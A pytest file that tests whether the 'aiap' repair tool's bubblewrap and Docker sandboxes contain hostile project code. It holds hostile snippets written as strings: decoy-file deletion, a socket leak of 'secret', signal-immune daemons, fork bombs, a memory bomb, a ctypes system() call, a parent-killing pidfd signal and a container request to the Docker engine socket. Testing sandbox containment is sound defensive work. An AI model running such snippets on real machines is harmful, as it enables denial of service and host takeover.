"""Hostile code under `pytest --aiap-fix --aiap-sandbox=bwrap` and `=docker`: the project's
modules and tests attack the machine while aiap reproduces and validates; nothing outside aiap's
copies changes, nothing reaches the network or the Docker engine, nothing they start is left
running.

Without a working bubblewrap (a Docker engine) these tests skip, unless AIAP_TEST_REQUIRE_SANDBOX
(AIAP_TEST_REQUIRE_DOCKER) is set: then they fail. CI installs both and sets both.
"""

from __future__ import annotations

import os
import random
import signal
import socket
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from aiap import sandbox
from tests.plugin_project import run, user_files, user_pytester

BUGGY = "def double(x):\n    return x + x + 1\n"
TEST = "from mod import double\n\n\ndef test_double():\n    assert double(2) == 4\n"


REQUIRED = {"bwrap": "AIAP_TEST_REQUIRE_SANDBOX", "docker": "AIAP_TEST_REQUIRE_DOCKER"}


@pytest.fixture(autouse=True, params=sorted(REQUIRED))
def backend(request: pytest.FixtureRequest) -> str:
    """Each test runs under each sandbox that works here."""
    mode: str = request.param
    try:
        assert sandbox.resolve(mode) == mode  # type: ignore[arg-type]
    except sandbox.SandboxUnavailable as e:
        if os.environ.get(REQUIRED[mode]):
            pytest.fail(str(e))
        pytest.skip(str(e))
    return mode


@pytest.fixture
def project(pytester: pytest.Pytester, monkeypatch: pytest.MonkeyPatch) -> pytest.Pytester:
    return user_pytester(pytester, monkeypatch)


def _repaired(project: pytest.Pytester, backend: str) -> pytest.RunResult:
    result = run(project, "--aiap-fix", f"--aiap-sandbox={backend}", "--aiap-budget=60")
    result.stdout.fnmatch_lines(["aiap: patch 1: mod.py*"])
    return result


def test_imports_that_write_outside_the_copy_change_nothing_outside_it(
    project: pytest.Pytester, backend: str, tmp_path: Path
) -> None:
    decoy = tmp_path / "decoy"
    decoy.mkdir()
    (decoy / "kept.txt").write_text("kept\n")
    home = Path(os.environ["HOME"])  # the runs' HOME (pytester makes it its own directory)
    # Only in aiap's runs (AIAP_CHILD): the user's own run is theirs to allow.
    attack = (
        "import os, pathlib, shutil\n"
        f"DECOY = pathlib.Path({str(decoy)!r})\n"
        "if os.environ.get('AIAP_CHILD'):\n"
        "    for target in (DECOY / 'kept.txt', DECOY / 'new.txt',\n"
        "                   pathlib.Path(os.path.expanduser('~/.aiap-hostile'))):\n"
        "        try:\n"
        "            with open(target, 'a') as f:\n"
        "                f.write('written by the project under test\\n')\n"
        "        except OSError:\n"
        "            pass\n"
        "    shutil.rmtree(DECOY, ignore_errors=True)\n"
    )
    project.makepyfile(mod=attack + BUGGY, test_mod=TEST)
    before = user_files(project.path)
    _repaired(project, backend)
    assert sorted(p.name for p in decoy.iterdir()) == ["kept.txt"]
    assert (decoy / "kept.txt").read_text() == "kept\n"
    assert not (home / ".aiap-hostile").exists()
    assert user_files(project.path) == before


@pytest.fixture
def listener() -> Iterator[tuple[int, list[bytes]]]:
    """A TCP server on 127.0.0.1 that records what it is sent: its port, and what it got."""
    received: list[bytes] = []
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.2)
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except TimeoutError:
                continue
            with conn:
                received.append(conn.recv(1024))

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        yield server.getsockname()[1], received
    finally:
        stop.set()
        thread.join()
        server.close()


def test_a_test_that_sends_data_out_reaches_no_network(
    project: pytest.Pytester, backend: str, listener: tuple[int, list[bytes]]
) -> None:
    port, received = listener
    leak = (
        "import os, socket\n"
        "if os.environ.get('AIAP_CHILD'):  # only in aiap's runs\n"
        "    try:\n"
        f"        socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'secret')\n"
        "    except OSError:\n"
        "        pass\n"
    )
    project.makepyfile(mod=BUGGY, test_mod=leak + TEST)
    _repaired(project, backend)
    assert received == []


def _processes_running(marker: str) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            cmdline = (entry / "cmdline").read_bytes()
        except OSError:
            continue
        if marker.encode() in cmdline:
            found.append(int(entry.name))
    return found


def test_a_detached_daemon_a_fixture_starts_is_gone_when_aiap_returns(
    project: pytest.Pytester, backend: str
) -> None:
    # A command line no other process has. The daemon blocks SIGTERM and SIGINT and leaves the
    # session, as a daemon does: only a PID namespace or a subreaper ends it.
    marker = f"3107.{random.randrange(10**6):06d}"
    daemon = (
        "import os, signal, subprocess, sys\n"
        "import pytest\n\n"
        "@pytest.fixture(scope='session', autouse=True)\n"
        "def daemon():\n"
        "    if os.environ.get('AIAP_CHILD'):  # only in aiap's runs\n"
        f"        subprocess.Popen(['sleep', '{marker}'], start_new_session=True,\n"
        "            preexec_fn=lambda: signal.pthread_sigmask(\n"
        "                signal.SIG_BLOCK, {signal.SIGTERM, signal.SIGINT}))\n"
        "    yield\n"
    )
    _repaired_leaving_no_process(project, backend, daemon, marker)


def _repaired_leaving_no_process(
    project: pytest.Pytester, backend: str, conftest: str, marker: str
) -> None:
    """Repaired with ``conftest`` starting processes whose command line holds ``marker``; none
    of them is left a few seconds after aiap returns."""
    project.makeconftest(conftest)
    project.makepyfile(mod=BUGGY, test_mod=TEST)
    try:
        _repaired(project, backend)
        deadline = time.monotonic() + 10
        while _processes_running(marker) and time.monotonic() < deadline:
            time.sleep(0.1)
        assert _processes_running(marker) == []
    finally:
        for pid in _processes_running(marker):  # what a failure left: not the next test's
            os.kill(pid, signal.SIGKILL)


ESCAPES = """\
import ctypes
import os
import signal
import sqlite3

DECOY = {decoy!r}


def via_ctypes(name: str) -> int:
    return ctypes.CDLL(None).system(f"echo escaped >> {{DECOY}}/ctypes.txt".encode())


def via_dir_fd(name: str) -> None:
    fd = os.open(DECOY, os.O_RDONLY)
    try:
        os.unlink("kept.txt", dir_fd=fd)
    finally:
        os.close(fd)


def via_sqlite(name: str) -> int:
    db = sqlite3.connect(os.path.join(DECOY, "stolen.db"))
    db.execute("create table if not exists t (x)")
    db.commit()
    return 1


def swallowed(name: str) -> int:
    try:
        with open(os.path.join(DECOY, "swallowed.txt"), "w") as f:
            f.write(name)
    except OSError:
        return 0
    return 1


def kill_parent(n: int) -> int:
    if n > 3:
        signal.pidfd_send_signal(os.pidfd_open(os.getppid()), signal.SIGKILL)
    return n


def harmless(n: int) -> int:
    if n > 10:
        return n - 10
    return n
"""


def test_generated_tests_never_call_what_escaped_and_nothing_outside_changes(
    tmp_path: Path, backend: str
) -> None:
    import subprocess
    import sys

    from tests.conftest import write_project

    decoy = tmp_path / "decoy"
    decoy.mkdir()
    (decoy / "kept.txt").write_text("kept\n")
    home = tmp_path / "home"
    home.mkdir()
    project = write_project(tmp_path / "p", {"escapes.py": ESCAPES.format(decoy=str(decoy))})
    env = {**os.environ, "HOME": str(home)}
    done = subprocess.run(
        [sys.executable, "-m", "aiap.cli", "gen-tests", f"--sandbox={backend}", "--time-budget=15",
         "escapes.py"],
        cwd=project, env=env, capture_output=True, text=True, timeout=240,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr  # not killed (137) by the test it ran
    assert sorted(p.name for p in decoy.iterdir()) == ["kept.txt"], done.stderr
    written = "".join(p.read_text() for p in (project / "tests" / "generated").glob("*.py"))
    assert "harmless(" in written, done.stderr
    for escape in ("via_ctypes(", "via_dir_fd(", "via_sqlite(", "swallowed("):
        assert escape not in written
    assert "no test written" in done.stderr
    # The kept tests, run as a user would, outside aiap: still nothing outside changes. (Not
    # kill_parent's: pidfd_send_signal raises no audit event, so only bwrap contained it, and
    # outside it would kill this test's process.)
    subprocess.run(
        [sys.executable, "-m", "pytest", "-q", "-k", "not kill_parent", "tests/generated"],
        cwd=project, env=env, capture_output=True, timeout=120,
    )  # fmt: skip
    assert sorted(p.name for p in decoy.iterdir()) == ["kept.txt"]
    assert list(home.iterdir()) == []


def test_a_flood_of_detached_processes_is_gone_when_aiap_returns(
    project: pytest.Pytester, backend: str
) -> None:
    # A bounded fork bomb: each process forks two more, six levels down (126 in all), each
    # leaves the session, blocks SIGTERM and sleeps; a fork a limit refuses ends its branch.
    # (Unbounded, it would take the machine:
    # as root no RLIMIT_NPROC holds, and bubblewrap sets no pids limit; Docker's does.)
    marker = f"3108.{random.randrange(10**6):06d}"
    flood = (
        "import os, signal\n"
        "import pytest\n\n"
        "def spread(depth):\n"
        "    for _ in range(2):\n"
        "        try:\n"
        "            child = os.fork()\n"
        "        except OSError:  # a sandbox's limit: the flood is as big as it may get\n"
        "            return\n"
        "        if child == 0:\n"
        "            os.setsid()\n"
        "            signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGTERM, signal.SIGINT})\n"
        "            if depth < 6:\n"
        "                spread(depth + 1)\n"
        f"            os.execvp('sleep', ['sleep', '{marker}'])\n\n"
        "@pytest.fixture(scope='session', autouse=True)\n"
        "def flood():\n"
        "    if os.environ.get('AIAP_CHILD'):  # only in aiap's runs\n"
        "        spread(1)\n"
        "    yield\n"
    )
    _repaired_leaving_no_process(project, backend, flood, marker)


def test_a_memory_bomb_in_a_test_is_stopped_and_the_fix_still_found(
    project: pytest.Pytester, backend: str
) -> None:
    bomb = (
        "import os\n\n"
        "def test_hog():\n"
        "    if os.environ.get('AIAP_CHILD'):  # only in aiap's runs\n"
        "        try:\n"
        "            bytearray(64 * 1024 ** 3)\n"
        "        except MemoryError:\n"
        "            pass\n"
    )
    project.makepyfile(mod=BUGGY, test_mod=TEST, test_hog=bomb)
    _repaired(project, backend)


def test_a_thread_that_never_ends_does_not_hold_aiap_past_its_budget(
    project: pytest.Pytester, backend: str
) -> None:
    # A non-daemon thread keeps the interpreter from exiting after the tests: the reproduction's
    # pytest finishes its report and then never ends.
    endless = (
        "import os, threading, time\n\n"
        "if os.environ.get('AIAP_CHILD'):  # only in aiap's runs\n"
        "    threading.Thread(target=lambda: time.sleep(10**6), daemon=False).start()\n"
    )
    project.makepyfile(mod=endless + BUGGY, test_mod=TEST)
    _repaired(project, backend)  # the reproduction's report is taken, its process ended


def test_the_fix_hooks_runs_of_a_hostile_test_change_nothing_outside_the_project(
    git_repo: Path, tmp_path: Path, backend: str
) -> None:
    from tests.conftest import git
    from tests.precommit_project import (
        BUGGY_PRICING,
        PRICING,
        commit,
        hook_env,
        local_config,
        pre_commit,
        shop_project,
    )

    decoy = tmp_path / "decoy"
    decoy.mkdir()
    (decoy / "kept.txt").write_text("kept\n")
    home = tmp_path / "home"
    home.mkdir()
    repo = shop_project(git_repo)
    (repo / "tests" / "conftest.py").write_text(
        "import os, pathlib, shutil\n"
        "if os.environ.get('AIAP_CHILD'):  # only in aiap's runs\n"
        f"    shutil.rmtree({str(decoy)!r}, ignore_errors=True)\n"
        "    try:\n"
        "        pathlib.Path(os.path.expanduser('~/.aiap-hostile')).write_text('x')\n"
        "    except OSError:\n"
        "        pass\n"
    )
    (repo / ".pre-commit-config.yaml").write_text(local_config())
    git(repo, "add", ".")
    git(repo, "commit", "-qm", "setup", "--no-verify")
    env = hook_env(AIAP_SANDBOX=backend, HOME=str(home))
    assert pre_commit(repo, "install", env=env).returncode == 0
    (repo / "shop" / "pricing.py").write_text(BUGGY_PRICING)
    git(repo, "add", "shop/pricing.py")
    first = commit(repo, "pricing", env=env)
    assert "aiap-fix: shop/pricing.py: patched:" in first.stdout, first.stdout + first.stderr
    assert (repo / "shop" / "pricing.py").read_text() == PRICING
    assert sorted(p.name for p in decoy.iterdir()) == ["kept.txt"]
    assert not (home / ".aiap-hostile").exists()


ENGINE_ESCAPE = """\
import http.client, json, os, socket

class _Unix(http.client.HTTPConnection):
    def __init__(self, path):
        super().__init__("localhost")
        self.path = path

    def connect(self):
        self.sock = socket.socket(socket.AF_UNIX)
        self.sock.connect(self.path)

if os.environ.get("AIAP_CHILD"):  # only in aiap's runs
    for path in {sockets!r}:
        try:
            engine = _Unix(path)
            engine.request("POST", "/containers/create?name={name}",
                           json.dumps({{"Image": "{image}", "Cmd": ["true"]}}),
                           {{"Content-Type": "application/json"}})
            engine.getresponse()
        except OSError:
            pass
"""


def test_a_test_that_asks_the_docker_engine_for_a_container_gets_none(
    project: pytest.Pytester, backend: str
) -> None:
    # Reaching the engine is root on the host: its sockets are hidden in both sandboxes.
    from aiap import sandbox_docker

    sockets = [str(path) for path in sandbox_docker.engine_sockets()]
    if not sockets:
        pytest.skip("no Docker engine on this machine")
    docker = pytest.importorskip("docker")
    name = f"aiap-escape-{random.randrange(10**6):06d}"
    escape = ENGINE_ESCAPE.format(sockets=sockets, name=name, image=sandbox_docker.IMAGE)
    project.makepyfile(mod=escape + BUGGY, test_mod=TEST)
    client = docker.from_env()
    try:
        _repaired(project, backend)
        assert client.containers.list(all=True, filters={"name": name}) == []
    finally:
        for container in client.containers.list(all=True, filters={"name": name}):
            container.remove(force=True)


def test_an_unbounded_fork_bomb_stops_at_the_containers_process_limit(
    project: pytest.Pytester, backend: str
) -> None:
    if backend != "docker":
        pytest.skip("bubblewrap sets no process limit (as root, no RLIMIT_NPROC holds either)")
    marker = f"3109.{random.randrange(10**6):06d}"
    bomb = (
        "import os\n"
        "import pytest\n\n"
        "@pytest.fixture(scope='session', autouse=True)\n"
        "def bomb():\n"
        "    if os.environ.get('AIAP_CHILD'):  # only in aiap's runs\n"
        "        children = []\n"
        "        while len(children) < 5000:  # without a limit: 5000, and fail\n"
        "            try:\n"
        "                pid = os.fork()\n"
        "            except OSError:\n"
        "                break  # the limit\n"
        "            if pid == 0:\n"
        f"                os.execvp('sleep', ['sleep', '{marker}'])\n"
        "            children.append(pid)\n"
        "        assert len(children) < 5000\n"
        "        # Half of them end, so that the run can go on (a thread is a process too);\n"
        "        # the rest are left running for aiap to end.\n"
        "        for pid in children[::2]:\n"
        "            os.kill(pid, 9)\n"
        "            os.waitpid(pid, 0)\n"
        "    yield\n"
    )
    _repaired_leaving_no_process(project, backend, bomb, marker)
